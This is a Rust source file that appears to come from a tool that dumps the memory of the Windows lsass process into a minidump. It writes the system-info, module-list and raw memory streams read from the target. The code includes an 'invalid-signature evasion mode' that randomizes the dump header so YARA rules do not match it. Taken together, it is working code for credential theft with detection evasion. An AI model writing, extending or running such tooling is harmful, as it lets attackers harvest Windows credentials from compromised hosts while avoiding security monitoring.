//! Serializes the header, stream directory, and the three stream bodies
//! into a caller-owned, size-capped buffer.
//!
//! Layout (spec.md §4.E): header, 3-entry stream directory, SystemInfo
//! body, ModuleList body, Memory64List body followed immediately by the
//! concatenated raw memory contents it describes. Every record is written
//! with [`crate::minidump_format::SectionWriter`] /
//! [`crate::minidump_format::SectionArrayWriter`]'s alloc-then-`set_value`
//! back-patch discipline; nothing here grows the buffer backwards.
use std::io::{Cursor, Write};

use scroll::{Pwrite, LE};
use windows_sys::Win32::Foundation::HANDLE;

use crate::error::Error;
use crate::error_list::SoftErrorSublist;
use crate::memory_enumerator::MemoryRange;
use crate::minidump_format::{
    MDLocationDescriptor, MDRawDirectory, MDRawHeader, MDRawModule, MDRawSystemInfo,
    MDMemoryDescriptor64, MDStreamType, MDType, SectionArrayWriter, SectionWriter,
    MD_CPU_ARCHITECTURE_AMD64, MD_HEADER_SIGNATURE, MD_HEADER_VERSION, VER_NT_WORKSTATION,
    VER_PLATFORM_WIN32_NT,
};
use crate::modules::ModuleRecord;
use crate::ntapi::Gateway;
use crate::peb;

/// The buffer every section writer appends to. A `Cursor<Vec<u8>>` rather
/// than a fixed-capacity slice -- the cap spec.md calls for is enforced by
/// [`check_budget`] on every append, not by the `Vec`'s own growth.
pub(crate) type DumpBuf = Cursor<Vec<u8>>;

const STREAM_COUNT: u32 = 3;

/// A single partial (or outright failed) remote memory read. Per spec.md
/// §5/§7, a `STATUS_PARTIAL_COPY` is always tolerated; a harder failure on
/// one range is tolerated too as long as at least one range in the dump
/// read something -- see [`write_memory64_list`].
#[derive(Debug, thiserror::Error, serde::Serialize)]
#[error("read of {size} bytes at {start:#x} returned {status}")]
pub struct MemoryReadHole {
    pub start: u64,
    pub size: u64,
    #[serde(serialize_with = "crate::error_list::serializers::serialize_nt_status")]
    pub status: crate::ntapi::NtStatus,
}

/// The three identity fields at the head of the header.
struct HeaderIdentity {
    signature: u32,
    version: u32,
}

fn canonical_identity() -> HeaderIdentity {
    HeaderIdentity {
        signature: MD_HEADER_SIGNATURE,
        version: MD_HEADER_VERSION,
    }
}

/// Random values distinct from the canonical constants, for the
/// invalid-signature evasion mode (spec.md "Invalid-signature mode").
/// Seeded off wall-clock time rather than a `getrandom` dependency -- the
/// teacher's stack has no randomness crate and this crate doesn't need
/// cryptographic unpredictability, only "doesn't match the literal bytes a
/// YARA rule greps for" (see DESIGN.md).
fn invalid_identity() -> crate::Result<HeaderIdentity> {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)?
        .subsec_nanos();
    // Flip at least one bit so this can never accidentally land back on the
    // canonical constant.
    let signature = MD_HEADER_SIGNATURE ^ (nanos | 1);
    let version = MD_HEADER_VERSION ^ ((nanos >> 8) | 1);
    Ok(HeaderIdentity { signature, version })
}

fn check_budget(buffer: &DumpBuf, max_size: usize, additional: usize) -> crate::Result<()> {
    if failspot::failspot!(crate::FailSpotName::DumpTooLarge)
        || buffer.position() as usize + additional > max_size
    {
        return Err(Error::DumpTooLarge(max_size));
    }
    Ok(())
}

fn alloc<T: Default>(buffer: &mut DumpBuf, max_size: usize) -> crate::Result<SectionWriter<T>> {
    check_budget(buffer, max_size, std::mem::size_of::<T>())?;
    Ok(SectionWriter::<T>::alloc(buffer)?)
}

fn alloc_with_val<T: Default>(buffer: &mut DumpBuf, max_size: usize, val: T) -> crate::Result<SectionWriter<T>> {
    check_budget(buffer, max_size, std::mem::size_of::<T>())?;
    Ok(SectionWriter::alloc_with_val(buffer, val)?)
}

fn alloc_array<T: Default>(buffer: &mut DumpBuf, max_size: usize, count: usize) -> crate::Result<SectionArrayWriter<T>> {
    check_budget(buffer, max_size, std::mem::size_of::<T>() * count)?;
    Ok(SectionArrayWriter::alloc_array(buffer, count)?)
}

fn write_bytes(buffer: &mut DumpBuf, max_size: usize, bytes: &[u8]) -> crate::Result<()> {
    check_budget(buffer, max_size, bytes.len())?;
    buffer.write_all(bytes)?;
    Ok(())
}

/// Writes a `MINIDUMP_STRING`-shaped, length-prefixed UTF-16 blob (byte
/// length, not counting the trailing NUL, followed by the units and a
/// NUL terminator) and returns the RVA of its start.
fn write_utf16_string(buffer: &mut DumpBuf, max_size: usize, s: &str) -> crate::Result<u32> {
    let rva = buffer.position() as u32;
    let units: Vec<u16> = s.encode_utf16().collect();
    let byte_len = (units.len() * 2) as u32;

    let mut encoded = vec![0u8; 4 + units.len() * 2 + 2];
    encoded.pwrite_with(byte_len, 0, LE)?;
    for (i, unit) in units.iter().enumerate() {
        encoded.pwrite_with(*unit, 4 + i * 2, LE)?;
    }
    encoded.pwrite_with(0u16, 4 + units.len() * 2, LE)?;

    write_bytes(buffer, max_size, &encoded)?;
    Ok(rva)
}

/// Emits the full dump into a fresh buffer and returns it.
///
/// `modules` is taken `&mut` so each record's `name_rva` can be filled in
/// during [`write_module_list`]'s first pass, satisfying the
/// `name_rva < owning record's rva` invariant spec.md's data model
/// requires. `memory_soft_errors` collects one [`MemoryReadHole`] per
/// range that came back partial or otherwise short.
pub fn write_dump(
    gateway: &Gateway,
    process: HANDLE,
    modules: &mut [ModuleRecord],
    memory_ranges: &[MemoryRange],
    valid_signature: bool,
    max_size: usize,
    memory_soft_errors: SoftErrorSublist<'_, MemoryReadHole>,
) -> crate::Result<Vec<u8>> {
    let mut buffer: DumpBuf = Cursor::new(Vec::new());
    let identity = if valid_signature {
        canonical_identity()
    } else {
        invalid_identity()?
    };

    let mut header_writer = alloc::<MDRawHeader>(&mut buffer, max_size)?;
    let mut directory = alloc_array::<MDRawDirectory>(&mut buffer, max_size, STREAM_COUNT as usize)?;
    let directory_rva = directory.position;

    let system_info_dirent = write_system_info(gateway, process, &mut buffer, max_size)?;
    directory.set_value_at(&mut buffer, system_info_dirent, 0)?;

    let module_list_dirent = write_module_list(&mut buffer, max_size, modules)?;
    directory.set_value_at(&mut buffer, module_list_dirent, 1)?;

    let memory_dirent = write_memory64_list(
        gateway,
        process,
        &mut buffer,
        max_size,
        memory_ranges,
        memory_soft_errors,
    )?;
    directory.set_value_at(&mut buffer, memory_dirent, 2)?;

    header_writer.set_value(
        &mut buffer,
        MDRawHeader {
            signature: identity.signature,
            version: identity.version,
            stream_count: STREAM_COUNT,
            stream_directory_rva: directory_rva,
            checksum: 0,
            time_date_stamp: 0,
            flags: MDType::Normal as u64,
        },
    )?;

    Ok(buffer.into_inner())
}

/// SystemInfoStream: fixed-layout body (architecture, product type,
/// version/build read out of the target's PEB, everything else zeroed
/// per spec.md's "Fields deliberately zeroed" note) followed by the
/// service-pack name as a length-prefixed UTF-16 blob whose RVA is
/// back-patched into the body.
fn write_system_info(gateway: &Gateway, process: HANDLE, buffer: &mut DumpBuf, max_size: usize) -> crate::Result<MDRawDirectory> {
    let mut info_section = alloc::<MDRawSystemInfo>(buffer, max_size)?;
    let dirent_location = info_section.location();

    let (major_version, minor_version, build_number) = read_os_version(gateway, process)?;

    let mut info = MDRawSystemInfo {
        processor_architecture: MD_CPU_ARCHITECTURE_AMD64,
        product_type: VER_NT_WORKSTATION,
        major_version,
        minor_version,
        build_number,
        platform_id: VER_PLATFORM_WIN32_NT,
        ..Default::default()
    };

    // lsass has no meaningful CSDVersion of its own to read back; an empty
    // string still round-trips through P4 (a valid zero-length prefixed
    // string) and satisfies "tolerant consumers" per spec.md §6.
    info.csd_version_rva = write_utf16_string(buffer, max_size, "")?;

    info_section.set_value(buffer, info)?;

    Ok(MDRawDirectory {
        stream_type: MDStreamType::SystemInfoStream as u32,
        location: dirent_location,
    })
}

fn read_os_version(gateway: &Gateway, process: HANDLE) -> crate::Result<(u32, u32, u32)> {
    let peb_address = gateway.peb_address(process)?;
    let major = crate::modules::read_u32(gateway, process, peb_address + peb::PEB_OS_MAJOR_VERSION_OFFSET as u64)
        .ok_or(Error::ReadFailed)?;
    let minor = crate::modules::read_u32(gateway, process, peb_address + peb::PEB_OS_MINOR_VERSION_OFFSET as u64)
        .ok_or(Error::ReadFailed)?;
    let build = crate::modules::read_u32(gateway, process, peb_address + peb::PEB_OS_BUILD_NUMBER_OFFSET as u64)
        .ok_or(Error::ReadFailed)?;
    Ok((major, minor, build))
}

/// ModuleListStream: pass 1 writes each module's full pathname and records
/// the resulting RVA; pass 2 writes the fixed-size `MDRawModule` records
/// that reference those RVAs. The directory's RVA points at the count
/// field, not at pass 1's strings, per spec.md's back-patch description.
fn write_module_list(buffer: &mut DumpBuf, max_size: usize, modules: &mut [ModuleRecord]) -> crate::Result<MDRawDirectory> {
    for module in modules.iter_mut() {
        module.name_rva = write_utf16_string(buffer, max_size, &module.path)?;
    }

    let count_position = buffer.position() as u32;
    alloc_with_val::<u32>(buffer, max_size, modules.len() as u32)?;

    let mut records = alloc_array::<MDRawModule>(buffer, max_size, modules.len())?;
    for (i, module) in modules.iter().enumerate() {
        records.set_value_at(
            buffer,
            MDRawModule {
                base_of_image: module.base,
                size_of_image: module.size,
                checksum: module.checksum,
                time_date_stamp: module.timestamp,
                module_name_rva: module.name_rva,
                version_info: Default::default(),
                cv_record: Default::default(),
                misc_record: Default::default(),
                reserved0: [0, 0],
                reserved1: [0, 0],
            },
            i,
        )?;
    }

    let dirent_size = 4 + (modules.len() * std::mem::size_of::<MDRawModule>()) as u32;
    Ok(MDRawDirectory {
        stream_type: MDStreamType::ModuleListStream as u32,
        location: MDLocationDescriptor {
            rva: count_position,
            data_size: dirent_size,
        },
    })
}

/// Memory64ListStream: a count, a base RVA for the contiguous memory blob
/// that immediately follows the descriptor table, then the descriptors
/// themselves, then the raw bytes in the same order.
///
/// A `STATUS_PARTIAL_COPY` (or any other non-success read status) leaves
/// the range's bytes as the scratch buffer's zero fill and pushes a
/// [`MemoryReadHole`] rather than aborting -- per spec.md, per-range read
/// failures are holes, not dump-ending errors. Only a *total* failure to
/// read anything at all (every single range came back empty) surfaces as
/// [`Error::ReadFailed`], matching spec.md §7's "repeated non-partial read
/// failures" phrasing.
fn write_memory64_list(
    gateway: &Gateway,
    process: HANDLE,
    buffer: &mut DumpBuf,
    max_size: usize,
    ranges: &[MemoryRange],
    mut soft_errors: SoftErrorSublist<'_, MemoryReadHole>,
) -> crate::Result<MDRawDirectory> {
    let header_rva = buffer.position() as u32;
    alloc_with_val::<u64>(buffer, max_size, ranges.len() as u64)?;
    let mut base_rva_writer = alloc::<u64>(buffer, max_size)?;
    let mut descriptors = alloc_array::<MDMemoryDescriptor64>(buffer, max_size, ranges.len())?;

    for (i, range) in ranges.iter().enumerate() {
        descriptors.set_value_at(
            buffer,
            MDMemoryDescriptor64 {
                start_of_memory_range: range.base,
                data_size: range.size,
            },
            i,
        )?;
    }

    let base_rva = buffer.position() as u64;
    base_rva_writer.set_value(buffer, base_rva)?;

    let mut hard_failures = 0usize;
    for range in ranges {
        let mut scratch = vec![0u8; range.size as usize];
        let forced_partial = failspot::failspot!(crate::FailSpotName::ReadVirtualMemoryPartialCopy);
        let status = if forced_partial {
            crate::ntapi::NtStatus(crate::ntapi::STATUS_PARTIAL_COPY)
        } else {
            gateway.read_virtual_memory(process, range.base, &mut scratch).0
        };

        if status.is_partial_copy() {
            // Tolerated unconditionally: the range still appears with its
            // original size, its bytes left as the scratch's zero fill.
            soft_errors.push(MemoryReadHole {
                start: range.base,
                size: range.size,
                status,
            });
        } else if !status.is_success() {
            log::warn!("failed to read {} bytes at {:#x}: {status}", range.size, range.base);
            soft_errors.push(MemoryReadHole {
                start: range.base,
                size: range.size,
                status,
            });
            hard_failures += 1;
        }

        write_bytes(buffer, max_size, &scratch)?;
        crate::sink::scrub(&mut scratch);
    }

    if !ranges.is_empty() && hard_failures == ranges.len() {
        return Err(Error::ReadFailed);
    }

    let dirent_size = 16 + (ranges.len() * std::mem::size_of::<MDMemoryDescriptor64>()) as u32;
    Ok(MDRawDirectory {
        stream_type: MDStreamType::Memory64ListStream as u32,
        location: MDLocationDescriptor {
            rva: header_rva,
            data_size: dirent_size,
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn utf16_string_round_trips_length_prefix() {
        let mut buffer: DumpBuf = Cursor::new(Vec::new());
        let rva = write_utf16_string(&mut buffer, usize::MAX, "lsasrv.dll").unwrap();
        let bytes = buffer.into_inner();

        let len = u32::from_le_bytes(bytes[rva as usize..rva as usize + 4].try_into().unwrap());
        assert_eq!(len as usize, "lsasrv.dll".encode_utf16().count() * 2);

        let units: Vec<u16> = bytes[rva as usize + 4..rva as usize + 4 + len as usize]
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        assert_eq!(String::from_utf16(&units).unwrap(), "lsasrv.dll");
    }

    #[test]
    fn budget_check_rejects_overflowing_append() {
        let mut buffer: DumpBuf = Cursor::new(Vec::new());
        let result = alloc::<MDRawHeader>(&mut buffer, 4);
        assert!(matches!(result, Err(Error::DumpTooLarge(4))));
    }

    #[test]
    fn invalid_identity_never_matches_canonical() {
        let id = invalid_identity().unwrap();
        assert_ne!(id.signature, MD_HEADER_SIGNATURE);
    }
}
